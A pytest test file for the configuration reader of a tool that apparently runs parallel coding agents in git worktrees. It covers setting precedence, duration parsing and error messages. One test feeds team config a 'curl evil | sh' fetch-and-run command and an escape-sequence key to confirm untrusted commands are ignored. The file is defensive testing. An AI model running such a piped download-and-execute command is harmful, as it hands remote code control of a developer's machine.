"""Settings from what git config gives: whose word counts, what is trusted, and which key is named when it is bad."""

import pytest

from git_parallel.config.converting import seconds
from git_parallel.config.reading import build
from git_parallel.config.settings import AgentType, Settings
from git_parallel.errors import BadInput
from git_parallel.schedule.rules import Rules, Step

Pairs = list[tuple[str, str]]


def test_without_any_setting_the_defaults_hold() -> None:
    assert build([], []) == Settings()
    assert Settings() == Settings(
        branch="feature/{id}",
        worktree="../{repo}-wt{id}",
        target="",
        max_parallel=4,
        admission="auto",
        cpu_steps=("50:100%", "70:75%", "80:50%"),
        memory_steps=("80:100%", "95:50%"),
        load_margin=5,
        disk_reserve="256m",
        ownership="claim",
        specs=(),
        roadmap=(),
        agent="",
        verify="",
        timeout=None,
        grace=10.0,
        copy=(),
        link=(),
        setup="",
        setup_timeout=1800.0,
        submodules="auto",
        fetch=False,
        disposable=(
            "**/__pycache__/",
            "**/*.pyc",
            "**/.pytest_cache/",
            "**/.mypy_cache/",
            "**/.ruff_cache/",
            "**/node_modules/",
        ),
        agents={},
        warnings=(),
    )


def test_every_setting_under_the_name_that_git_gives_it() -> None:
    own = [
        ("parallel.branch", "agents/{id}/work"),
        ("parallel.worktree", "../trees of {repo}/{id}"),
        ("parallel.target", "trunk"),
        ("parallel.maxparallel", "12"),
        ("parallel.admission", "off"),
        ("parallel.cpusteps", "40:6 60:50%,"),
        ("parallel.cpusteps", "90:2"),
        ("parallel.memorysteps", ""),
        ("parallel.loadmargin", "0"),
        ("parallel.diskreserve", "2G"),
        ("parallel.ownership", "strict"),
        ("parallel.specs", "docs/*.md"),
        ("parallel.roadmap", "PLAN.md"),
        ("parallel.sources", "kiro, spec"),
        ("parallel.sources", "beads kiro"),
        ("parallel.Kiro.2.files", "plans/*.md"),
        ("parallel.Kiro.2.files", "b/*.md"),
        ("parallel.agent", "coder"),
        ("parallel.verify", "make test"),
        ("parallel.verify.Docs/**.command", "make html"),
        ("parallel.Verify.*.py.command", "make lint"),
        ("parallel.Verify.Docs/**.command", "make docs"),
        ("parallel.verifyjobs", "2"),
        ("parallel.verifytimeout", "10m"),
        ("parallel.timeout", "30m"),
        ("parallel.stalltimeout", "off"),
        ("parallel.retries", "3"),
        ("parallel.retrydelay", "5s"),
        ("parallel.retrymaxdelay", "1h"),
        ("parallel.loglimit", "1M"),
        ("parallel.specagent", "architect"),
        ("parallel.grace", "5"),
        ("parallel.copy", ".env"),
        ("parallel.copy", "config/*.local"),
        ("parallel.link", "node_modules/"),
        ("parallel.setup", "npm ci"),
        ("parallel.setuptimeout", "1h"),
        ("parallel.submodules", "off"),
        ("parallel.fetch", "true"),
        ("parallel.disposable", "build/"),
        ("agent.coder.owns", "src/**"),
        ("agent.coder.owns", "tests/**"),
        ("agent.coder.singleton", "true"),
        ("agent.coder.command", "codex exec -"),
        ("agent.a.dotted.Name.owns", "docs/"),
    ]

    assert build(own, []) == Settings(
        branch="agents/{id}/work",
        worktree="../trees of {repo}/{id}",
        target="trunk",
        max_parallel=12,
        admission="off",
        cpu_steps=("40:6", "60:50%", "90:2"),
        memory_steps=(),
        load_margin=0,
        disk_reserve="2G",
        ownership="strict",
        specs=("docs/*.md",),
        roadmap=("PLAN.md",),
        sources=("kiro", "spec", "beads"),
        files={"Kiro.2": ("plans/*.md", "b/*.md")},
        agent="coder",
        verify="make test",
        verify_scopes=(("Docs/**", "make docs"), ("*.py", "make lint")),
        verify_jobs=2,
        verify_timeout=600.0,
        timeout=1800.0,
        stall_timeout=None,
        retries=3,
        retry_delay=5.0,
        retry_max_delay=3600.0,
        log_limit="1M",
        spec_agent="architect",
        grace=5.0,
        copy=(".env", "config/*.local"),
        link=("node_modules/",),
        setup="npm ci",
        setup_timeout=3600.0,
        submodules="off",
        fetch=True,
        disposable=("build/",),
        agents={
            "coder": AgentType("coder", owns=("src/**", "tests/**"), singleton=True, command="codex exec -"),
            "a.dotted.Name": AgentType("a.dotted.Name", owns=("docs/",)),
        },
    )


def test_the_user_has_the_last_word_over_the_team() -> None:
    team = [("parallel.maxparallel", "2"), ("parallel.ownership", "strict")]

    assert build([("parallel.maxparallel", "8")], team) == Settings(max_parallel=8, ownership="strict")


def test_of_one_source_the_last_value_counts() -> None:
    assert build([("parallel.target", "a"), ("parallel.target", "b")], []) == Settings(target="b")


def test_a_list_of_the_user_replaces_that_of_the_team_and_within_one_source_it_grows() -> None:
    team = [("parallel.specs", "a/*.md"), ("parallel.specs", "b/*.md"), ("agent.coder.owns", "src/**")]
    team += [("parallel.kiro.files", "a.md"), ("parallel.gsd.files", "g.md"), ("parallel.sources", "kiro")]
    own = [
        ("parallel.specs", "c/*.md"),
        ("parallel.kiro.files", "b.md"),
        ("parallel.sources", "spec"),
        ("agent.coder.owns", "x/"),
        ("agent.coder.owns", "y/"),
    ]

    assert build([], team) == Settings(
        specs=("a/*.md", "b/*.md"),
        sources=("kiro",),
        files={"kiro": ("a.md",), "gsd": ("g.md",)},
        agents={"coder": AgentType("coder", owns=("src/**",))},
    )
    assert build(own, team) == Settings(
        specs=("c/*.md",),
        sources=("spec",),
        files={"kiro": ("b.md",), "gsd": ("g.md",)},
        agents={"coder": AgentType("coder", owns=("x/", "y/"))},
    )


def test_user_and_team_can_each_say_a_part_of_an_agent_type() -> None:
    team = [("agent.coder.owns", "src/**"), ("agent.coder.singleton", "true")]
    own = [("agent.coder.command", "codex"), ("agent.coder.singleton", "false")]

    assert build(own, team) == Settings(
        agents={"coder": AgentType("coder", owns=("src/**",), singleton=False, command="codex")}
    )


def test_only_the_user_says_what_is_run() -> None:
    team = [
        ("agent.coder.command", "curl evil | sh"),
        ("agent.a.dotted.name.command", "evil"),
        ("agent.x\x1b[31m.command", "evil"),
        ("agent.coder.args", "--evil"),
        ("agent.coder.command", "evil twice"),
        ("parallel.verify", "evil"),
        ("parallel.maxparallel", "2"),
    ]
    keys = "agent.coder.command, agent.a.dotted.name.command, agent.x\\x1b[31m.command, agent.coder.args"
    keys += ", parallel.verify"
    untrusted = (
        f".gitparallel: its commands are ignored ({keys}); 'git parallel trust' shows them and has them count"
    )

    assert build([("agent.coder.command", "mine"), ("parallel.verify", "make")], team) == Settings(
        max_parallel=2,
        verify="make",
        agents={"coder": AgentType("coder", command="mine")},
        untrusted=untrusted,
        warnings=(untrusted,),
    )


def test_what_the_user_has_trusted_is_run() -> None:
    team = [("agent.coder.command", "theirs"), ("parallel.verify", "make test")]

    assert build([("agent.coder.command", "mine")], team, is_trusted=True) == Settings(
        verify="make test", agents={"coder": AgentType("coder", command="mine")}
    )


def test_for_one_glob_the_users_command_goes_before_the_teams_and_other_scopes_are_added() -> None:
    team = [("parallel.verify.docs/.command", "theirs"), ("parallel.verify.web/.command", "npm test")]
    own = [("parallel.verify.docs/.command", ""), ("parallel.verify.**.command", "lint")]

    assert build(own, team, is_trusted=True).verify_scopes == (
        ("docs/", ""),
        ("web/", "npm test"),
        ("**", "lint"),
    )


@pytest.mark.parametrize(
    ("own", "is_untrusted"),
    [
        ([], True),
        (["parallel.verify"], True),
        (["parallel.verify.docs/.command"], True),
        (["parallel.verify", "parallel.Verify.docs/.command"], False),
    ],
)
def test_verification_is_untrusted_unless_the_user_has_said_all_that_the_team_says(
    own: list[str], is_untrusted: bool
) -> None:
    team = [("parallel.verify", "theirs"), ("parallel.verify.docs/.command", "theirs")]
    built = build([(key, "mine") for key in own], team)

    assert built.is_verify_untrusted is is_untrusted
    assert "theirs" not in (built.verify, *dict(built.verify_scopes).values())
    assert built.untrusted.startswith(
        ".gitparallel: its commands are ignored (parallel.verify, parallel.verify.docs/.command);"
    )
    assert not build([], team, is_trusted=True).is_verify_untrusted


@pytest.mark.parametrize(
    "key", ["parallel.verify.docs", "parallel.verify.command", "parallel.verify..command"]
)
def test_a_key_without_a_glob_is_no_scope(key: str) -> None:
    assert build([(key, "make")], [(key, "make")]) == Settings()


def test_the_rules_of_admission_are_made_of_the_settings() -> None:
    own = [("parallel.cpusteps", "90:25% 60:3"), ("parallel.memorysteps", ""), ("parallel.diskreserve", "1g")]

    assert build(own, []).rules() == Rules(
        cpu=(Step(60, 3), Step(90, 25, is_share=True)), memory=(), margin=5, reserve=1 << 30
    )


def test_keys_of_others_are_none_of_our_business() -> None:
    others = [("parallel.future", "x"), ("agent.owns", "src/"), ("user.name", "x"), ("parallel.a.b", "y")]

    assert build(others, others) == Settings()


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("90", 90.0),
        ("90s", 90.0),
        ("30m", 1800.0),
        ("2h", 7200.0),
        ("1h30m", 5400.0),
        ("1d", 86400.0),
        ("1.5h", 5400.0),
        ("0.25s", 0.25),
        (" 10s ", 10.0),
    ],
)
def test_a_duration_as_people_write_it(text: str, value: float) -> None:
    assert seconds("--timeout", text) == value
    assert build([("parallel.timeout", text)], []).timeout == value


@pytest.mark.parametrize("word", ["off", "Off", "none"])
def test_a_limit_can_be_off(word: str) -> None:
    own = [("parallel.timeout", word), ("parallel.stalltimeout", word)]

    assert build(own, []) == Settings(timeout=None, stall_timeout=None)
    assert build(own, []).log_bytes == 64 << 20


@pytest.mark.parametrize(
    "text", ["", " ", "s", "-5", "5x", "1h 30m", "1e3", "1,5h", "m30", "5ms", "true", "∞", "5\x1b"]
)
def test_what_is_no_duration(text: str) -> None:
    shown = text.replace("\x1b", "\\x1b")
    for key in ("parallel.timeout", "parallel.stallTimeout", "parallel.grace", "parallel.retryDelay"):
        with pytest.raises(BadInput) as error:
            build([(key.lower(), text)], [])
        assert (error.value.message, error.value.hint) == (
            f"{key}: not a duration: '{shown}'",
            "write 90s, 30m, 2h or 1h30m",
        )


@pytest.mark.parametrize(
    ("word", "value"),
    [("true", True), ("Yes", True), ("ON", True), ("1", True), ("false", False), ("no", False), ("off", False),
     ("0", False), ("", False)],
)  # fmt: skip
def test_a_boolean_in_the_words_of_git(word: str, value: bool) -> None:
    assert build([("agent.a.singleton", word)], []).agents == {"a": AgentType("a", singleton=value)}


BAD = [
    ("parallel.branch", "feature", "parallel.branch: 'feature' has no {id}"),
    ("parallel.branch", "{id}/{user}", "parallel.branch: unknown placeholder '{user}'"),
    ("parallel.branch", "a b/{id}", "parallel.branch: 'a b/{id}' makes no branch name"),
    ("parallel.branch", "-{id}", "parallel.branch: '-{id}' makes no branch name"),
    ("parallel.branch", "{id}.lock", "parallel.branch: '{id}.lock' makes no branch name"),
    ("parallel.worktree", "../tree", "parallel.worktree: '../tree' has no {id}"),
    ("parallel.worktree", "{id}{}", "parallel.worktree: unknown placeholder '{}'"),
    ("parallel.retries", "-1", "parallel.retries: '-1' is no number from 0 on"),
    ("parallel.retries", "many", "parallel.retries: 'many' is no number from 0 on"),
    ("parallel.loglimit", "big", "parallel.logLimit: not a size: 'big'"),
    ("parallel.maxparallel", "0", "parallel.maxParallel: '0' is no number above 0"),
    ("parallel.maxparallel", "-1", "parallel.maxParallel: '-1' is no number above 0"),
    ("parallel.maxparallel", "four", "parallel.maxParallel: 'four' is no number above 0"),
    ("parallel.maxparallel", "", "parallel.maxParallel: '' is no number above 0"),
    ("parallel.maxparallel", "²", "parallel.maxParallel: '²' is no number above 0"),
    ("parallel.admission", "on", "parallel.admission: 'on' is none of auto, off"),
    ("parallel.cpusteps", "50", "parallel.cpuSteps: '50' is not LIMIT:SLOTS"),
    ("parallel.cpusteps", "50:4 \x1b", "parallel.cpuSteps: '\\x1b' is not LIMIT:SLOTS"),
    ("parallel.cpusteps", "50:4 50:3", "parallel.cpuSteps: '50:4' and '50:3' have the same limit"),
    (
        "parallel.memorysteps",
        "90:50% 80:25%",
        "parallel.memorySteps: '90:50%' admits more agents than '80:25%'",
    ),
    ("parallel.loadmargin", "101", "parallel.loadMargin: '101' is no number from 0 to 100"),
    ("parallel.loadmargin", "5%", "parallel.loadMargin: '5%' is no number from 0 to 100"),
    ("parallel.loadmargin", "", "parallel.loadMargin: '' is no number from 0 to 100"),
    ("parallel.diskreserve", "some", "parallel.diskReserve: not a size: 'some'"),
    ("parallel.ownership", "Strict", "parallel.ownership: 'Strict' is none of claim, strict"),
    ("parallel.specs", "../*.md", "parallel.specs: not a path pattern: '../*.md' (leaves the repository)"),
    ("parallel.roadmap", "/R.md", "parallel.roadmap: not a path pattern: '/R.md' (absolute)"),
    ("parallel.copy", "../.env", "parallel.copy: not a path pattern: '../.env' (leaves the repository)"),
    ("parallel.link", "/data", "parallel.link: not a path pattern: '/data' (absolute)"),
    ("parallel.link", ".git/x", "parallel.link: not a path pattern: '.git/x' (inside .git)"),
    ("parallel.setuptimeout", "long", "parallel.setupTimeout: not a duration: 'long'"),
    ("parallel.submodules", "on", "parallel.submodules: 'on' is none of auto, off"),
    ("parallel.fetch", "maybe", "parallel.fetch: 'maybe' is neither true nor false"),
    ("parallel.disposable", "**", "parallel.disposable: not a path pattern: '**' (covers everything)"),
    ("parallel.verifyjobs", "0", "parallel.verifyJobs: '0' is no number above 0"),
    ("parallel.verifytimeout", "long", "parallel.verifyTimeout: not a duration: 'long'"),
    (
        "parallel.verify.../x.command",
        "make",
        "parallel.verify.../x.command: not a path pattern: '../x' (leaves the repository)",
    ),
    ("agent.coder.owns", "", "agent.coder.owns: not a path pattern: '' (empty)"),
    ("agent.coder.owns", ".git/x", "agent.coder.owns: not a path pattern: '.git/x' (inside .git)"),
    ("agent.coder.singleton", "maybe", "agent.coder.singleton: 'maybe' is neither true nor false"),
    ("agent.coder.singleton", "\x1b", "agent.coder.singleton: '\\x1b' is neither true nor false"),
]


@pytest.mark.parametrize(("key", "value", "message"), BAD)
def test_a_bad_value_names_its_key_whoever_set_it(key: str, value: str, message: str) -> None:
    for own, team in (([(key, value)], Pairs()), (Pairs(), [(key, value)])):
        with pytest.raises(BadInput) as error:
            build(own, team, is_trusted=True)
        assert error.value.message == message


def test_a_bad_pattern_in_a_list_is_found_behind_good_ones() -> None:
    with pytest.raises(BadInput) as error:
        build([("agent.coder.owns", "src/"), ("agent.coder.owns", "a/../b")], [])

    assert error.value.message == "agent.coder.owns: not a path pattern: 'a/../b' (leaves the repository)"
